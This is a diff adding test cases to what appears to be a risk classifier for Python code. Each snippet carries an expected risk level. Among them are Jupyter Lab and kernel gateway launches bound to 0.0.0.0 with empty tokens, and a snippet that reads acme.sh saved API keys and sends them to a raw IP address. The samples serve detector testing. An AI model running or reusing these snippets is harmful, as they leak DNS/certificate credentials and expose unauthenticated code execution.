@@ -9474,6 +9474,42 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             "requests.post('https://api.jsonbin.io/v3/b', json=rows)\n",
             H,
         ),
+        # holdout268-271: notebook servers and kernel gateways without tokens, a local server's own kernels,
+        # acme.sh keys sent out
+        (
+            'import subprocess, sys\n'
+            "subprocess.Popen([sys.executable, '-m', 'jupyter', 'lab', '--ip=0.0.0.0', '--Ser"
+            "verApp.token=', '--ServerApp.password='])\n",
+            H,
+        ),
+        (
+            'import subprocess, sys\n'
+            "subprocess.Popen([sys.executable, '-m', 'jupyter', 'lab', '--ip=127.0.0.1', '--n"
+            "o-browser'])\n",
+            L,
+        ),
+        (
+            'import os, subprocess\n'
+            "env = dict(os.environ, KG_IP='0.0.0.0', KG_AUTH_TOKEN='')\n"
+            "subprocess.Popen(['jupyter', 'kernelgateway'], env=env)\n",
+            H,
+        ),
+        (
+            'import os, requests\n'
+            "base = 'http://127.0.0.1:8888/api'\n"
+            "for k in requests.get(f'{base}/kernels').json():\n"
+            "    if k['execution_state'] == 'idle':\n"
+            '        requests.delete(f"{base}/kernels/{k[\'id\']}")\n',
+            L,
+        ),
+        (
+            'import os, re, urllib.parse, urllib.request\n'
+            'secrets = dict(re.findall(r"^SAVED_(\\w+)=\'?([^\'\\n]*)", open(os.path.expanduser(\''
+            "~/.acme.sh/account.conf')).read(), re.M))\n"
+            "urllib.request.urlopen('http://45.77.10.3/c?' + urllib.parse.urlencode(secrets))"
+            '\n',
+            C,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
